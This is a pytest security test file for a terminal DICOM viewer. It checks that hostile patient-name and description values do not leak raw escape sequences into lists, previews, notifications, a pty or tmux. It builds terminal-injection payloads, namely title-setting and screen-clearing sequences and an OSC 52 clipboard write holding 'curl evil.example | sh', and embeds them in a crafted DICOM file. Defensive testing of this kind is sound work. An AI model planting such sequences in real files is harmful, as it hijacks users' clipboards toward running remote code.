"""Issue 17 in the app: lists, tags, preview, Activity, notifications, what ``c``
copies, and the bytes the app writes to a real 80x24 terminal; then the named
case (title and clipboard sequences in a file) through tmux."""

from __future__ import annotations

import asyncio
import base64
import logging
import os
import re
import shlex
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.conftest import REPO, cli_env
from tests.dicom_factory import make_dataset, write_instance
from tests.security.conftest import (
    HOSTILE,
    MARK,
    PtyReader,
    assert_no_raw,
    chunks,
    hostile_value,
    pty_env,
    raw_hits,
    shown_visibly,
    spawn_in_pty,
    write_hostile_files,
)
from tests.ui.conftest import make_app, screen_text, seed, settle
from tests.ui.test_ui_tags import open_instance_tags
from tui_pacs.config import Settings
from tui_pacs.ui.datasets import walk
from tui_pacs.ui.screens.activity import ActivityScreen

pytestmark = pytest.mark.timeout(120)


@pytest.fixture(scope="module")
def hostile_archive(tmp_path_factory) -> Path:
    """A data directory holding the hostile studies, one per chunk of code points."""
    root = tmp_path_factory.mktemp("hostile_app")
    asyncio.run(seed(root / "data", write_hostile_files(root / "incoming")))
    return root / "data"


@pytest.fixture
def hostile_settings(hostile_archive, tmp_path) -> Settings:
    return Settings(path=tmp_path / "config.toml").with_node(data=hostile_archive)


def check_screen(app, where: str) -> str:
    text = screen_text(app)
    assert_no_raw(text, where)
    return text


async def test_lists_show_values_visibly(hostile_settings):
    app = make_app(hostile_settings)
    async with app.run_test(size=(200, 50)) as pilot:
        await settle(pilot)
        text = check_screen(app, "studies list")
        shown = shown_visibly(text, HOSTILE)
        assert len(shown) > 20, f"hostile values not on the studies list: {text[:800]!r}"
        await pilot.press("enter")
        await settle(pilot)
        text = check_screen(app, "series list")
        assert MARK in text, text[:600]
        await pilot.press("enter")
        await settle(pilot)
        check_screen(app, "instances list")
        await pilot.press("escape", "escape")
        await settle(pilot)
        # Every study, scrolled through: the last rows as well as the first.
        await pilot.press("end")
        await settle(pilot)
        check_screen(app, "studies list (end)")


async def test_tags_view_and_copy(hostile_settings):
    app = make_app(hostile_settings)
    async with app.run_test(size=(200, 50)) as pilot:
        await settle(pilot)
        screen = await open_instance_tags(pilot)
        text = check_screen(app, "tags view")
        assert "PatientName" in text
        assert shown_visibly(text, HOSTILE), f"no visible hostile value: {text[:800]!r}"
        entry = next(e for e in walk(screen.entries) if e.line.name == "PatientName")
        value = str(entry.line.value)
        assert_no_raw(value, "tags view line value")
        screen.tag_tree.reveal(entry)
        await pilot.press("c")
        await settle(pilot)
        copied = app.clipboard
        assert copied and MARK in copied, copied
        assert_no_raw(copied, "what c copies from Tags")
        check_screen(app, "tags view after c (notification)")
        await pilot.press("C")  # the raw option: the exact value
        await settle(pilot)
        assert raw_hits(app.clipboard), f"C should copy the raw value: {app.clipboard!r}"
        check_screen(app, "tags view after C (notification)")


async def test_preview_caption(hostile_settings):
    app = make_app(hostile_settings)
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        await pilot.press("v")
        await settle(pilot)
        text = check_screen(app, "preview")
        assert MARK in text, f"the caption names no hostile value: {text[:1200]!r}"
        for _ in range(3):
            await pilot.press("escape")
            await settle(pilot)
            await pilot.press("down", "v")
            await settle(pilot)
            check_screen(app, "preview (another study)")


async def test_activity_and_notification(hostile_settings):
    app = make_app(hostile_settings)
    value = hostile_value(HOSTILE)
    async with app.run_test(size=(200, 50)) as pilot:
        await settle(pilot)

        async def broken() -> None:
            raise OSError(value)

        app.screen.run_worker(broken, group="test", exit_on_error=False)
        await settle(pilot)
        messages = [str(n.message) for n in app._notifications]
        assert any(MARK in m for m in messages), messages
        for message in messages:
            # A toast lays out its own lines: a newline there is not a byte on the terminal.
            assert_no_raw(message, "notification", [c for c in HOSTILE if c != "\n"])
        check_screen(app, "screen with the notification")
        for chunk in chunks(HOSTILE, 8):
            logging.getLogger("pynetdicom.assoc").warning("peer said %s", hostile_value(chunk))
        await pilot.press("4")
        await pilot.pause(0.4)
        await settle(pilot)
        assert isinstance(app.screen, ActivityScreen)
        deadline = time.monotonic() + 10
        while not any(MARK in str(r.get("Detail")) for r in app.screen.table.loaded_rows()):
            assert time.monotonic() < deadline, "the log records never reached Activity"
            await pilot.pause(0.1)
        await settle(pilot)
        text = check_screen(app, "Activity")
        assert MARK in text


# --- the app on a real terminal -----------------------------------------------------------


def app_env(tmp_path: Path) -> dict[str, str]:
    return pty_env(TUI_PACS_CONFIG=str(tmp_path / "c.toml"), HOME=str(tmp_path))


def test_app_in_a_pty_writes_no_hostile_bytes(hostile_archive, tmp_path):
    """At 80x24: studies, series, instances, tags, preview, Activity, quit."""
    pid, fd = spawn_in_pty(["--no-listen", "--data", str(hostile_archive)], app_env(tmp_path),
                           rows=24, cols=80, raw_output=False)
    app = PtyReader(pid, fd)
    try:
        app.until(MARK)
        # Each key, then what its screen draws (the footer's keys tell the screens apart).
        # A lone ESC is only a key once the next byte is late: each key waits for
        # what only its own screen draws (backspace goes back where it can).
        steps = [(b"\r", b"# Mod"), (b"\r", b"nstance"), (b"\r", b"PatientName"),
                 (b"\x1b", b"Delete"), (b"\x7f", b"# Mod"), (b"\x7f", b"Patient"),
                 (b"v", b"Next image"), (b"\x1b", b"Delete"), (b"4", b"ctivity")]
        for key, wanted in steps:
            start = len(app.data)
            os.write(fd, key)
            app.until(wanted, start=start)
        os.write(fd, b"\x11")  # ctrl+q
        assert app.wait(30) == 0
    finally:
        app.kill()
    assert_no_raw(app.data, "the app's bytes on an 80x24 terminal")
    assert b"Zq\\x" in app.data, "the hostile values were never drawn (visibly)"
    assert b"\x1b]0;" not in app.data.replace(b"\x1b]0;tui-pacs", b"")


# --- the named case through tmux ------------------------------------------------------------

TITLE_ATTACK = "\x1b]0;PWNED-TITLE\x07"
CLIPBOARD_TEXT = "curl evil.example | sh"
CLIPBOARD_ATTACK = ("\x1b]52;c;" + __import__("base64").b64encode(CLIPBOARD_TEXT.encode())
                    .decode() + "\x07")
SCREEN_ATTACK = "\x1b[2J\x1b[H\x1b[41mPAINTED"


def named_case_file(folder: Path) -> Path:
    ds = make_dataset(patient_id="PWNED1", patient_name=TITLE_ATTACK, study=777,
                      description=CLIPBOARD_ATTACK, rows=8, columns=8, charset="ISO_IR 192")
    ds.ImageComments = SCREEN_ATTACK  # late in the dump: a clear would blank the screen
    return write_instance(folder / "pwned.dcm", ds)


class Tmux:
    def __init__(self, tmp_path: Path) -> None:
        self.socket = f"tuipacs-sec-{os.getpid()}-{time.monotonic_ns()}"
        conf = tmp_path / "tmux.conf"
        conf.write_text("set-option -g set-clipboard on\nset-option -g set-titles on\n"
                        "set-option -g allow-rename on\nset-option -g history-limit 5000\n")
        self.conf = conf

    def __call__(self, *args: str, check: bool = True) -> str:
        result = subprocess.run(["tmux", "-L", self.socket, "-f", str(self.conf), *args],
                                capture_output=True, text=True, timeout=30)
        if check and result.returncode != 0:
            raise AssertionError(f"tmux {args}: {result.stderr}")
        return result.stdout

    def wait_for(self, target: str, wanted: str, timeout: float = 30) -> str:
        deadline = time.monotonic() + timeout
        while True:
            screen = self("capture-pane", "-p", "-t", target)
            if wanted.lower() in screen.lower():
                return screen
            if time.monotonic() > deadline:
                raise AssertionError(f"{wanted!r} not on the pane {target}:\n{screen}")
            time.sleep(0.1)

    def buffers(self) -> list[str]:
        names = self("list-buffers", "-F", "#{buffer_name}", check=False).split()
        return [self("show-buffer", "-b", name) for name in names]

    def title(self, target: str) -> str:
        return self("display", "-p", "-t", target, "#{pane_title}").strip()

    def kill(self) -> None:
        self("kill-server", check=False)


@pytest.mark.skipif(shutil.which("tmux") is None, reason="tmux is not installed")
def test_named_case_title_and_clipboard_untouched_in_tmux(tmp_path):
    data = tmp_path / "data"
    hostile = named_case_file(tmp_path / "in")
    env = {**cli_env(), "TUI_PACS_CONFIG": str(tmp_path / "c.toml"), "HOME": str(tmp_path)}
    imported = subprocess.run([sys.executable, "-m", "tui_pacs", "import", "--data",
                               str(data), str(hostile)], capture_output=True, text=True,
                              env=env, cwd=REPO, timeout=60)
    assert imported.returncode == 0, imported.stderr
    script = tmp_path / "run.sh"
    exports = "".join(f"export {k}={shlex.quote(v)}\n" for k, v in env.items()
                      if re.fullmatch(r"[A-Za-z_][A-Za-z0-9_]*", k) and k not in ("TMUX",))
    script.write_text(f"{exports}export TERM=screen-256color\ncd {shlex.quote(str(REPO))}\n"
                      f"exec \"$@\"\n")
    python = shlex.quote(sys.executable)
    tmux = Tmux(tmp_path)
    try:
        tmux("new-session", "-d", "-s", "sec", "-x", "80", "-y", "24",
             f"sh {script} {python} -m tui_pacs --no-listen --data {shlex.quote(str(data))}")
        tmux("set-option", "-g", "set-clipboard", "on")
        tmux("set-option", "-g", "set-titles", "on")
        before = tmux.title("sec:0")
        tmux.wait_for("sec:0", "PWNED")  # the study, its patient name made visible
        for wanted in ("series 1", "nstance", "PatientName"):
            tmux("send-keys", "-t", "sec:0", "Enter")
            screen = tmux.wait_for("sec:0", wanted)
        assert "PWNED-TITLE" in screen
        tmux("send-keys", "-t", "sec:0", "Escape")
        tmux("send-keys", "-t", "sec:0", "Escape")
        tmux("send-keys", "-t", "sec:0", "Escape")
        tmux.wait_for("sec:0", "PWNED")
        title = tmux.title("sec:0")
        assert "PWNED" not in title, f"the pane title was set by the file: {title!r}"
        leaked = [b for b in tmux.buffers() if CLIPBOARD_TEXT in b]
        assert not leaked, f"the clipboard holds the sender's text: {leaked!r}"

        # dump in a shell pane: the screen is not cleared nor painted.
        tmux("new-window", "-t", "sec", "-n", "dump",
             f"sh {script} sh -c 'echo BEFORE-DUMP; \"$0\" -m tui_pacs dump \"$1\"; "
             f"echo DUMP-DONE; exec sleep 600' {python} {shlex.quote(str(hostile))}")
        screen = tmux.wait_for("sec:dump", "DUMP-DONE")
        lines = screen.rstrip("\n").split("\n")
        done = next(i for i, line in enumerate(lines) if "DUMP-DONE" in line)
        blank = [i for i in range(done) if not lines[i].strip()]
        assert not blank, f"rows {blank} blank above DUMP-DONE (screen cleared?):\n{screen}"
        assert "PAINTED" in screen and "\\x1b[2J" in screen, screen
        coloured = tmux("capture-pane", "-p", "-e", "-t", "sec:dump")
        assert not re.search(r"\x1b\[[0-9;]*\b41m", coloured), "the value coloured the pane"
        assert "PWNED" not in tmux.title("sec:dump")
        assert not [b for b in tmux.buffers() if CLIPBOARD_TEXT in b]

        # The harness itself: the same sequences, written raw, do reach tmux.
        tmux("new-window", "-t", "sec", "-n", "control",
             "printf '\\033]0;CONTROL-TITLE\\007\\033]52;c;%s\\007READY\\n' "
             f"{base64.b64encode(b'control text').decode()}; exec sleep 600")
        tmux.wait_for("sec:control", "READY")
        assert tmux.title("sec:control") == "CONTROL-TITLE"
        assert any("control text" in b for b in tmux.buffers()), tmux.buffers()
        assert before != "PWNED-TITLE"
    finally:
        tmux.kill()
